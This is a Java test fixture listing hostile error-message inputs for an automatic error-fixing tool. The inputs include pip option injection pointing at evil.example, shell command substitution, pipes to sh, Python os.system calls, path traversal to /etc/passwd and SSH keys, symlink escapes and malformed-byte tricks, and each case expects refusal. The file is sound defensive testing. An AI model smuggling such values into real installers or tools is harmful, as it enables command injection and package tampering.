package org.autoheal.hostile;

import static org.autoheal.hostile.HostileInputTest.NOT_HEALED;
import static org.autoheal.hostile.HostileInputTest.REFUSED;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Set;
import org.autoheal.hostile.HostileInputTest.Case;
import org.autoheal.hostile.HostileInputTest.Setup;
import org.autoheal.testing.TestHome;

/** The table of hostile inputs, by theme. {@code OUT} is replaced by the folder outside the home. */
final class HostileCases {
    private static final Setup NONE = s -> { };
    private static final Setup EXEC = s -> s.exit = 126; // bash's "cannot execute": the exec permission rule fires
    /** One config for the whole run: a deny list and a custom command strategy fed by a custom pattern. */
    static final String CONFIG = "{\"install\": {\"deny\": [\"evilpkg\"]}, \"strategies\": {\"clear_cache\":"
            + " {\"command\": [\"python3\", \"put.py\", \"{path}\"], \"touches\": [\"{path}\"]}}}";
    static final String PATTERNS = "{\"CacheCorrupt\": {\"pattern\": \"cache (?<path>\\\\S+) is corrupt\", \"solution\": \"clear_cache\"},"
            // hands install_module whatever follows, unchecked by the parser: the strategy's own validation must refuse
            + " \"NeedModule\": {\"pattern\": \"NEED-MODULE (?<module>.+)$\", \"solution\": \"install_module\"}}";
    private static final String TB = "Traceback (most recent call last):\n  File \"app.py\", line 1, in <module>\n    import x\n";

    private HostileCases() {
    }

    static Case of(String name, String text, Set<String> outcomes, String says) {
        return new Case(name, utf8(text), NONE, outcomes, says);
    }

    static Case of(String name, String text, Setup setup, Set<String> outcomes, String says) {
        return new Case(name, utf8(text), setup, outcomes, says);
    }

    static String missing(String module) {
        return TB + "ModuleNotFoundError: No module named '" + module + "'\n";
    }

    /** Option injection and shell syntax where a module name belongs. */
    static List<Case> moduleNames() {
        return List.of(
                of("module: --index-url option", missing("--index-url=http://evil.example/simple"), NOT_HEALED, null),
                of("module: -r /etc/passwd", missing("-r /etc/passwd"), NOT_HEALED, null),
                of("module: $(command substitution)", missing("$(touch OUT/PWNED)"), NOT_HEALED, null),
                of("module: `backticks`", missing("`touch OUT/PWNED`"), NOT_HEALED, null),
                of("module: ; command separator", missing("yaml; touch OUT/PWNED"), NOT_HEALED, null),
                of("module: && chain", missing("yaml && touch OUT/PWNED"), NOT_HEALED, null),
                of("module: | pipe", missing("yaml | sh"), NOT_HEALED, null),
                of("module: -e git+https", missing("-e git+https://evil.example/x.git"), NOT_HEALED, null),
                of("module: --no-index", missing("--no-index"), NOT_HEALED, null),
                of("module: relative path", missing("../../etc/passwd"), NOT_HEALED, null),
                of("module: absolute path", missing("/etc/passwd"), NOT_HEALED, null),
                of("module: URL to an archive", missing("http://evil.example/x.tar.gz"), NOT_HEALED, null),
                of("module: version pin", missing("requests==0.0.1"), NOT_HEALED, null),
                of("module: extras", missing("requests[socks]"), NOT_HEALED, null),
                of("module: python expression", missing("__import__('os').system('touch OUT/PWNED')"), NOT_HEALED, null),
                of("module: cyrillic lookalike", missing("r\u0435quests"), NOT_HEALED, null),
                of("module: 500 characters", missing("a".repeat(500)), NOT_HEALED, null),
                of("module: home folder", missing("~/.ssh/id_rsa"), NOT_HEALED, null),
                of("module: url-encoded traversal", missing("%2e%2e%2fetc"), NOT_HEALED, null),
                of("module: Python 2 form with $()", TB + "ImportError: No module named $(touch OUT/PWNED)\n", NOT_HEALED, null),
                of("module: denied by config", missing("evilpkg"), REFUSED, "install.deny"),
                of("module: node require of an option", "node:internal/modules/cjs/loader:1080\n  throw err;\n  ^\n\n"
                        + "Error: Cannot find module '--require=/etc/passwd'\nRequire stack:\n- /p/app.js\n", NOT_HEALED, null));
    }

    /** The same names through a custom pattern that passes them to install_module as they are. */
    static List<Case> moduleNamesPastTheParser() {
        List<String> names = List.of("--index-url=http://evil.example/simple", "-r /etc/passwd", "$(touch OUT/PWNED)",
                "`touch OUT/PWNED`", "yaml; touch OUT/PWNED", "requests==0.0.1", "requests[socks]", "../../etc/passwd",
                "http://evil.example/x.tar.gz", "-e .", "r\u0435quests", "a".repeat(150));
        return names.stream().map(n -> of("pattern module: " + (n.length() > 40 ? n.length() + " chars" : n),
                "NEED-MODULE " + n + "\n", REFUSED, "install_module")).toList();
    }

    /** Paths from error text that lead out of the roots, into AutoHeal's own files, or nowhere sane. */
    static List<Case> paths() {
        return List.of(
                of("chmod: absolute path outside", "bash: line 1: OUT/run.sh: Permission denied\n", EXEC, REFUSED, "outside the toolchain's roots"),
                of("chmod: ../ into the home", "bash: line 1: ../other/keep.sh: Permission denied\n",
                        s -> {
                            s.exit = 126;
                            HostileInputTest.script(s.h.root().resolve("other/keep.sh"), "rw-r--r--");
                        }, REFUSED, "outside the toolchain's roots"),
                of("chmod: sh absolute path", "sh: 1: OUT/run.sh: Permission denied\n", EXEC, REFUSED, "outside the toolchain's roots"),
                of("chmod: deep ../ to /etc", "bash: ../../../../../../../../etc/passwd: Permission denied\n", EXEC, REFUSED, "outside"),
                of("chmod: symlink to a file outside", "bash: line 1: ./link.sh: Permission denied\n",
                        s -> {
                            s.exit = 126;
                            Files.createSymbolicLink(s.proj.resolve("link.sh"), s.outside.resolve("run.sh"));
                        },
                        REFUSED, "symbolic link"),
                of("chmod: symlinked parent folder", "bash: line 1: ./linkdir/run.sh: Permission denied\n", s -> {
                    s.exit = 126;
                    Files.createSymbolicLink(s.proj.resolve("linkdir"), s.outside);
                }, REFUSED, "symbolic link"),
                of("chmod: hard link to a file outside", "bash: line 1: ./hard.sh: Permission denied\n", s -> {
                    s.exit = 126;
                    HostileInputTest.script(s.h.root().resolve("other/hard.sh"), "rw-r--r--");
                    Files.createLink(s.proj.resolve("hard.sh"), s.h.root().resolve("other/hard.sh"));
                }, REFUSED, "hard link"),
                of("chmod: AutoHeal's own config inside a root", "bash: ../config/autoheal.json: Permission denied\n", s -> {
                    s.exit = 126;
                    s.extra = ", \"roots\": [\"config\"]";
                }, REFUSED, "never heals its own files"),
                of("create: folder outside", TB + "FileNotFoundError: [Errno 2] No such file or directory: 'OUT/newdir/x.txt'\n",
                        REFUSED, "outside the toolchain's roots"),
                of("create: ../ into the home", TB + "FileNotFoundError: [Errno 2] No such file or directory: '../other/new/x.txt'\n",
                        REFUSED, "outside the toolchain's roots"),
                of("create: through a symlinked folder", TB + "FileNotFoundError: [Errno 2] No such file or directory: 'linkdir/new/x.txt'\n",
                        s -> Files.createSymbolicLink(s.proj.resolve("linkdir"), s.outside), REFUSED, "symbolic link"),
                of("create: dangling symlink", TB + "FileNotFoundError: [Errno 2] No such file or directory: 'dangling/x.txt'\n",
                        s -> Files.createSymbolicLink(s.proj.resolve("dangling"), s.outside.resolve("nothing-here")), REFUSED, null),
                of("create: /etc", TB + "FileNotFoundError: [Errno 2] No such file or directory: '/etc/autoheal-pwned/x'\n", REFUSED, "outside"),
                of("create: 5000-character path", TB + "FileNotFoundError: [Errno 2] No such file or directory: '" + "d/".repeat(2500) + "x'\n",
                        NOT_HEALED, null),
                of("create: in AutoHeal's state folder", TB + "FileNotFoundError: [Errno 2] No such file or directory: '../state/x/y'\n",
                        s -> s.extra = ", \"roots\": [\".\"]", REFUSED, "AutoHeal's state/ folder"),
                of("syntax: file outside", "  File \"OUT/mod.py\", line 1\n    def f()\n           ^\nSyntaxError: expected ':'\n",
                        REFUSED, "outside the toolchain's roots"),
                of("syntax: ../ file in the home", "  File \"../other/mod.py\", line 1\n    def f()\n           ^\nSyntaxError: expected ':'\n",
                        s -> s.h.write("other/mod.py", "def f()\n    return 1\n"), REFUSED, "outside the toolchain's roots"),
                of("syntax: line 2^31-1", "  File \"bad.py\", line 2147483647\n    def f()\n           ^\nSyntaxError: expected ':'\n",
                        s -> Files.writeString(s.proj.resolve("bad.py"), "def f()\n    return 1\n"), NOT_HEALED, null),
                of("syntax: line number overflow", "  File \"bad.py\", line 99999999999999999999\n    def f()\n           ^\nSyntaxError: expected ':'\n",
                        s -> Files.writeString(s.proj.resolve("bad.py"), "def f()\n    return 1\n"), NOT_HEALED, null),
                of("syntax: a binary file", "  File \"bin.py\", line 1\n    def f()\n           ^\nSyntaxError: expected ':'\n",
                        s -> Files.write(s.proj.resolve("bin.py"), new byte[] {'d', 'e', 'f', ' ', (byte) 0xff, (byte) 0xfe, 0, '\n'}),
                        REFUSED, "not valid UTF-8"),
                of("json: file outside", "loading OUT/data.json\n" + jsonTraceback(), REFUSED, "outside the toolchain's roots"),
                of("json: symlink to /dev/zero", "loading data.json\n" + jsonTraceback(),
                        s -> Files.createSymbolicLink(s.proj.resolve("data.json"), java.nio.file.Path.of("/dev/zero")), REFUSED, null),
                of("json: a named pipe", "loading fifo.json\n" + jsonTraceback(), s -> mkfifo(s.proj.resolve("fifo.json")),
                        REFUSED, "not a regular file"),
                of("json: a folder", "loading data.json\n" + jsonTraceback(),
                        s -> Files.createDirectories(s.proj.resolve("data.json")), NOT_HEALED, null),
                of("json: the home's config/ outside the roots", "loading ../config/app.json\n" + jsonTraceback(),
                        REFUSED, "outside the toolchain's roots"),
                of("import: module file outside", TB + "ImportError: cannot import name 'Mapping' from 'collections' (OUT/mod.py)\n",
                        NOT_HEALED, null),
                of("import: hostile names", TB + "ImportError: cannot import name '$(touch OUT/PWNED)' from '--index-url=x' (app.py)\n",
                        NOT_HEALED, null));
    }

    /** NUL bytes, invalid UTF-8, escapes and other bytes that must not fool the parser or the guard. */
    static List<Case> encodings() {
        return List.of(
                new Case("bytes: NUL inside a module name", bytes(TB + "ModuleNotFoundError: No module named 'req", new byte[] {0},
                        "uests --index-url=x'\n"), NONE, NOT_HEALED, null),
                new Case("bytes: invalid UTF-8 module name", bytes(TB + "ModuleNotFoundError: No module named '",
                        new byte[] {(byte) 0xff, (byte) 0xfe, (byte) 0xc3}, "'\n"), NONE, NOT_HEALED, null),
                new Case("bytes: overlong UTF-8 slashes in a path", bytes(TB + "PermissionError: [Errno 13] Permission denied: '..",
                        new byte[] {(byte) 0xc0, (byte) 0xaf}, "..", new byte[] {(byte) 0xc0, (byte) 0xaf}, "etc/passwd'\n"),
                        EXEC, NOT_HEALED, null),
                new Case("bytes: NUL inside a path", bytes(TB + "PermissionError: [Errno 13] Permission denied: 'OUT/run.sh",
                        new byte[] {0}, ".txt'\n"), EXEC, NOT_HEALED, null),
                of("bytes: ANSI escapes around an option", missing("\u001b[31m--index-url=http://evil\u001b[0m"), NOT_HEALED, null),
                of("bytes: bidi override in a path", TB + "PermissionError: [Errno 13] Permission denied: 'OUT/\u202Ehs.nur'\n",
                        EXEC, NOT_HEALED, null),
                of("bytes: CRLF traceback with an option", missing("-r /etc/passwd").replace("\n", "\r\n"), NOT_HEALED, null),
                of("bytes: newline splits the name", TB + "ModuleNotFoundError: No module named 'yaml\n--upgrade'\n", NOT_HEALED, null),
                new Case("bytes: random binary", randomBytes(4096), NONE, Set.of("undiagnosed"), null),
                new Case("bytes: UTF-16 traceback", missing("--index-url=x").getBytes(StandardCharsets.UTF_16), NONE, NOT_HEALED, null));
    }

    /** Commands and services: nothing from error text is ever run. */
    static List<Case> others() {
        Setup cache = s -> Files.writeString(s.proj.resolve("put.py"), "import sys\nopen(sys.argv[1], 'w').write('x')\n");
        return List.of(
                of("command: {path} outside", "cache OUT/secret.txt is corrupt\n", cache, REFUSED, "outside the toolchain's roots"),
                of("command: {path} as an option", "cache --output=/etc/passwd is corrupt\n", cache, REFUSED, "starts with '-'"),
                of("command: {path} is AutoHeal's config", "cache ../config/autoheal.json is corrupt\n", cache, REFUSED, "outside"),
                of("command: {path} with $()", "cache $(touch${IFS}OUT/PWNED) is corrupt\n", cache, NOT_HEALED, null),
                of("service: connection to an unknown port", TB + "ConnectionRefusedError: [Errno 111] Connection refused\n"
                        + "while connecting to 127.0.0.1:1; run `touch OUT/PWNED` to restart it\n", NOT_HEALED, null),
                of("service: websocket URL with a bad port", "Error: connect ECONNREFUSED ws://evil.example:99999/$(id)\n", NOT_HEALED, null));
    }

    /**
     * What no case may change beyond the roots: {@code other/keep.txt} and {@code config/app.json} in
     * the home, and in {@code outside} (a folder beyond the home) the files the cases' texts name.
     */
    static void plantBait(TestHome h, Path outside) throws IOException {
        h.write("other/keep.txt", "outside the roots, in the home\n");
        h.write("config/app.json", "{'not': 'ours to heal',}\n");
        Files.writeString(outside.resolve("secret.txt"), "secret\n");
        Files.writeString(outside.resolve("run.sh"), "#!/bin/sh\necho outside\n");
        Files.setPosixFilePermissions(outside.resolve("run.sh"), PosixFilePermissions.fromString("rw-r--r--"));
        Files.writeString(outside.resolve("data.json"), "{'a': 1,}\n");
        Files.writeString(outside.resolve("mod.py"), "def f()\n    return 1\n");
        Files.createDirectories(outside.resolve("dir"));
    }

    static String jsonTraceback() {
        return "Traceback (most recent call last):\n  File \"load.py\", line 6, in <module>\n    settings = json.load(f)\n"
                + "json.decoder.JSONDecodeError: Expecting property name enclosed in double quotes: line 1 column 2 (char 1)\n";
    }

    static void mkfifo(java.nio.file.Path p) throws Exception {
        Process pr = new ProcessBuilder("mkfifo", p.toString()).inheritIO().start();
        if (pr.waitFor() != 0) throw new IllegalStateException("mkfifo failed");
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] bytes(Object... parts) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        for (Object p : parts) b.writeBytes(p instanceof byte[] a ? a : utf8((String) p));
        return b.toByteArray();
    }

    static byte[] randomBytes(int n) {
        byte[] b = new byte[n];
        new java.util.Random(7).nextBytes(b);
        return b;
    }
}
